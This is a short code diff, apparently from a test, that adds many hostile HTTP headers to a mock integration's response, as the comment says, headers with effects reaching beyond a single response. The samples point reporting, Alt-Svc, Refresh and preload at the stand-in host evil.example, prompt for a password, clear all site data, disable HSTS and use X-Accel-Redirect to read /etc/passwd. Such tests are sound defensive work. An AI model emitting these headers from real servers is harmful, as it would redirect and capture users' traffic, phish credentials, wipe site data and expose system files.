@@ -116,7 +116,25 @@ export default createIntegration({
       }),
       {
         status: 201,
-        headers: { 'content-type': 'application/json', 'set-cookie': 'own=1; Path=/; Domain=example.org' },
+        headers: {
+          'content-type': 'application/json',
+          'cache-control': 'max-age=5',
+          'access-control-allow-origin': '*',
+          'set-cookie': 'own=1; Path=/; Domain=example.org',
+          // Each would rule over more than this answer.
+          nel: '{"report_to":"x","max_age":31536000}',
+          'report-to': '{"group":"x","max_age":31536000,"endpoints":[{"url":"https://evil.example"}]}',
+          'reporting-endpoints': 'x="https://evil.example"',
+          'alt-svc': 'h3="evil.example:443"; ma=86400',
+          'www-authenticate': 'Basic realm="Your password"',
+          refresh: '0; url=https://evil.example',
+          'clear-site-data': '"*"',
+          'service-worker-allowed': '/',
+          'strict-transport-security': 'max-age=0',
+          'x-accel-redirect': '/etc/passwd',
+          'origin-agent-cluster': '?0',
+          link: '<https://evil.example>; rel=preload',
+        },
       },
     )
   },
